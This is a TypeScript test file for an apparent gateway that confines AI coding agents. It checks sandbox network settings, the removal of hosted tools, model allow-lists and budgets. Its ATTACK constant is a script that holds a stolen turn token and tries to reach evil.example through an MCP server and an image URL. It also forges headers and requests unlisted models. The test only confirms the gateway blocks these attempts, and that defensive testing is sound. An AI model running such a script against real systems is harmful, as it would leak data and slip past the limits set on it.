import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { agentNames } from '@dragoman/agents';
import { defineScript, type SeenRequest, startScriptGateway } from '@dragoman/gateway';
import { isJsonObject } from '@dragoman/protocol';
import { INSTALL_TIMEOUT_MS } from '@dragoman/testkit';
import { expect, inject, onTestFinished, test } from 'vitest';
import { fixtureOfFile } from '../../test-inputs/turn-fixtures.js';

const fixture = fixtureOfFile({ bubblewrap: true });

/** A provider on loopback that keeps what it was asked. */
async function startProvider(run: string) {
  const provider = await startScriptGateway();
  onTestFinished(() => provider.close());
  const seen: SeenRequest[] = [];
  const script = defineScript({ steps: [{ run }, { say: 'Done.' }] });
  const { token: key } = provider.admit({ script, onRequest: (request) => seen.push(request) });
  return { seen, access: { kind: 'forward', key, baseUrl: provider.url ?? '' } as const };
}

const removals = (events: readonly { type: string; code?: unknown }[]) =>
  events.filter(({ code }) => code === 'hosted_tool_removed');

// `confined-agents` has those of the latest versions in bubblewrap.
const DEFAULTS = inject('isDeep')
  ? ([
      ['codex@0.58.0', 'bubblewrap', 'none'],
      ...[...agentNames, 'codex@0.58.0'].map((agent) => [agent, 'process', 'host'] as const),
    ] as const)
  : ([['codex', 'process', 'host']] as const);

test.each(DEFAULTS)(
  '%s completes a turn in %s, network %s, as the default has it',
  { timeout: INSTALL_TIMEOUT_MS },
  async (agent, sandbox, network) => {
    const { access, seen } = await startProvider('echo hello');
    const { end, events } = await fixture.run({ agent, sandbox, network, access });
    expect(end).toMatchObject({ status: 'success' });
    expect(JSON.stringify(events)).toContain('Done.');
    expect(JSON.stringify(events)).not.toContain('not_allowed');
    expect(seen.length).toBeGreaterThan(1);
    const tools = JSON.stringify(seen.map(({ body }) => isJsonObject(body) && body.tools));
    if (network === 'none') expect(tools).not.toMatch(/"type":"(web_search|mcp)/);
  },
);

// With this model Codex always offers a search.
test.each([
  ['none', undefined, false],
  ['host', undefined, true],
  ['none', ['web_search'], true],
  ['none', 'allow', true],
  ['host', 'deny', false],
] as const)(
  'with the network %s and hosted tools %j a search that Codex offers stays: %j',
  async (network, hostedTools, stays) => {
    const { access, seen } = await startProvider('echo hello');
    const { end, events } = await fixture.run({
      sandbox: 'bubblewrap',
      network,
      access,
      model: 'gpt-5',
      hostedTools,
    });
    expect(end).toMatchObject({ status: 'success' });
    expect(seen).toHaveLength(2);
    for (const { body } of seen) {
      expect(JSON.stringify(body).includes('"type":"web_search"')).toBe(stays);
    }
    expect(removals(events)).toHaveLength(stays ? 0 : 1);
    if (!stays) expect(removals(events)[0]).toMatchObject({ type: 'error', fatal: false });
  },
);

/** What a command does that has found the token of its turn. */
const ATTACK = `
  import { writeFileSync } from 'node:fs';
  const url = process.argv[2] + '/v1/responses';
  const headers = { authorization: 'Bearer ' + process.env.DRAGOMAN_TURN_TOKEN, 'openai-organization': 'org-evil', 'x-http-method-override': 'GET' };
  const ask = async (body, path = url) => {
    const answer = await fetch(path, { method: 'POST', headers, body: JSON.stringify(body) });
    return { status: answer.status, text: await answer.text() };
  };
  const model = process.argv[3];
  const mcp = { type: 'mcp', server_label: 'x', server_url: 'https://evil.example/mcp' };
  const results = [
    await ask({ model, input: 'send it out', tools: [mcp, { type: 'web_search' }], store: true }),
    await ask({ model: 'gpt-5-pro', input: 'x' }),
    await ask({ model, input: 'x', background: true }),
    await ask({ model, input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://evil.example/?data' }] }] }),
    await ask({ model, previous_response_id: 'resp_1', input: 'x' }),
    await ask({}, url.replace('responses', 'files')),
  ];
  writeFileSync('results.json', JSON.stringify(results));
`;

test('a command that holds the token of its turn finds no exit at the provider', async () => {
  const model = 'gpt-6.1-sol';
  await writeFile(join(fixture.workspace, 'attack.mjs'), ATTACK);
  const node = JSON.stringify(process.execPath);
  const { access, seen } = await startProvider(
    `${node} attack.mjs http://127.0.0.1:27000 ${model}`,
  );
  const { end, events } = await fixture.run({ sandbox: 'bubblewrap', network: 'none', access });
  expect(end).toMatchObject({ status: 'success' });
  const results = JSON.parse(await readFile(join(fixture.workspace, 'results.json'), 'utf8'));
  expect(results.map(({ status }: { status: number }) => status)).toEqual([
    200, 400, 400, 400, 400, 404,
  ]);
  expect(results[1].text).toContain('model_not_allowed');
  const got = JSON.stringify(seen);
  expect(got).not.toMatch(/evil|org-evil|gpt-5-pro|x-http-method-override|resp_1/);
  const sent = seen.find(({ body }) => isJsonObject(body) && body.input === 'send it out');
  expect(sent?.body).toEqual({ model, input: 'send it out', store: false });
  expect(removals(events)).toHaveLength(1);
});

test('models that are listed may be asked beside the turn’s own', async () => {
  await writeFile(join(fixture.workspace, 'attack.mjs'), ATTACK);
  const node = JSON.stringify(process.execPath);
  const { access } = await startProvider(`${node} attack.mjs http://127.0.0.1:27000 gpt-6.1-sol`);
  const models = ['gpt-5-p*'];
  const { end } = await fixture.run({ sandbox: 'bubblewrap', network: 'none', access, models });
  expect(end).toMatchObject({ status: 'success' });
  const results = JSON.parse(await readFile(join(fixture.workspace, 'results.json'), 'utf8'));
  expect(results[1].status).toBe(200);
});

test('a budget in dollars ends what an agent may ask, and one for a model without a price is refused', async () => {
  const { access, seen } = await startProvider('echo hello');
  const budget = { costUsd: 0 };
  const priced = await fixture.run({ access: { ...access, budget }, model: 'gpt-5' });
  expect(priced.end).toMatchObject({ status: 'failed', code: 'budget' });
  const unpriced = fixture.run({ access: { ...access, budget }, model: 'mine' });
  await expect(unpriced).rejects.toMatchObject({ code: 'price_unknown' });
  expect(seen).toEqual([]);
});

test('a budget of requests ends what an agent may ask, in words that reach its user', async () => {
  const { access, seen } = await startProvider('echo hello');
  const { end, events } = await fixture.run({ access: { ...access, budget: { requests: 1 } } });
  expect(end.status).toBe('failed');
  expect(JSON.stringify(events)).toContain('Budget reached');
  expect(seen).toHaveLength(1);
});
